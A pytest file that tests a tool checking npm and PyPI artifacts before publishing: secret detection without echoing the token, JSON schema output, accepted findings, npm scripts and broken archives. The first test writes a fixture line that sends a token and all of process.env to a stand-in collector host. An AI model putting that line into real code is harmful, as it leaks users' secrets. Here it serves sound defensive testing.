"""The check of one artifact: options, coverage, and what is never printed."""

import json
from collections.abc import Callable

import jsonschema

from tests.cli.publish.releasing import Project, checked_token
from tests.report.formats.test_json_contract import schema


def test_a_secret_is_never_printed_in_any_format(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    token = checked_token("npm_")
    project.write(
        "dist/main.js",
        f"require('https').get('https://collector.invalid/{token}?' + JSON.stringify(process.env))\n",
    )
    for arguments in (("-v",), ("--format", "json")):
        ran = project.check(*arguments)
        assert 1 == ran.code
        assert token not in ran.out + ran.err
        assert "token-in-package" in ran.out


def test_the_answer_fits_its_schema(project_of: Callable[[str], Project]) -> None:
    project = project_of("pypi")
    project.write("src/kite/dev.sqlite3", "x")
    project.commit()
    project.build()
    answer = project.check("--format", "json").json

    jsonschema.validate(answer, schema("publish"))
    assert 2 == len(answer["artifacts"])


def test_accepted_findings_stop_nothing_and_stay_listed(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.write("dist/debug.log", "x")
    ran = project.check("-v", "--accept", "leftover-files-gained:dist/debug.log")

    assert 0 == ran.code, ran.out
    assert "leftover-files-gained (accepted)" in ran.out


def test_scripts_that_npm_would_run_are_not_checked_and_named(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.manifest(scripts={"prepack": "tsc"})
    project.commit()
    ran = project.check()

    assert 0 == ran.code, ran.out
    assert "npm runs prepack before it publishes" in ran.out


def test_an_unreadable_archive_is_incomplete(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.write("broken.tgz", json.dumps({}))
    ran = project.check("broken.tgz")

    assert 3 == ran.code
    assert "Incomplete: broken.tgz is not an archive" in ran.out
